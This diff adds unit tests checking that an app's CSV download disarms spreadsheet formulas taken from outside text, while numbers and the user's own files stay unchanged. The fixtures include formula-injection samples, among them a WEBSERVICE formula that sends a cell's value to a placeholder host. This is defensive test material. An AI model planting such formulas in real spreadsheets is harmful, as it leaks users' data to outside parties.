@@ -21,3 +21,29 @@ test('R9.7 a file that the person added comes back as it was', () => {
   expect(downloaded({ name: 'a.csv', content: 'Süd', original, added: true })).toBe(original);
   expect(downloaded({ name: 'a (as added).csv', content: 'Süd', original })).toBe(original);
 });
+
+const formulas =
+  'n,note\n1,=HYPERLINK("x")\n-2.5,"=WEBSERVICE(""http://e.example/""&A1)"\n+4 %,@SUM(1)\n-,"\t=1"\n-1+2,a-b\n';
+
+test.each([
+  ['=1+1', "'=1+1"],
+  ['a;=cmd()', "a;'=cmd()"],
+  [' =1', " '=1"],
+  ['"=1', `"'=1`],
+  ['-1.234,50 $', '-1.234,50 $'],
+  ['+49 30 123', '+49 30 123'],
+  ['1e-3,-1E+5', '1e-3,-1E+5'],
+  ['"a, =b"', '"a, =b"'],
+  [
+    formulas,
+    `n,note\n1,'=HYPERLINK("x")\n-2.5,"'=WEBSERVICE(""http://e.example/""&A1)"\n+4 %,'@SUM(1)\n-,"'\t=1"\n'-1+2,a-b\n`,
+  ],
+])('R13.4 formulas of others in a table that Cairn wrote are disarmed in its download: %j', (content, expected) => {
+  expect(downloaded({ name: 'a.csv', content, foreign: true })).toBe(expected);
+});
+
+test('R13.4 tables without text from outside, the person’s own and files that are no tables keep what they hold', () => {
+  expect(downloaded({ name: 'a.csv', content: formulas })).toBe(formulas);
+  expect(downloaded({ name: 'a.csv', content: formulas, foreign: true, added: true })).toBe(formulas);
+  expect(downloaded({ name: 'a.md', content: formulas, foreign: true })).toBe(formulas);
+});
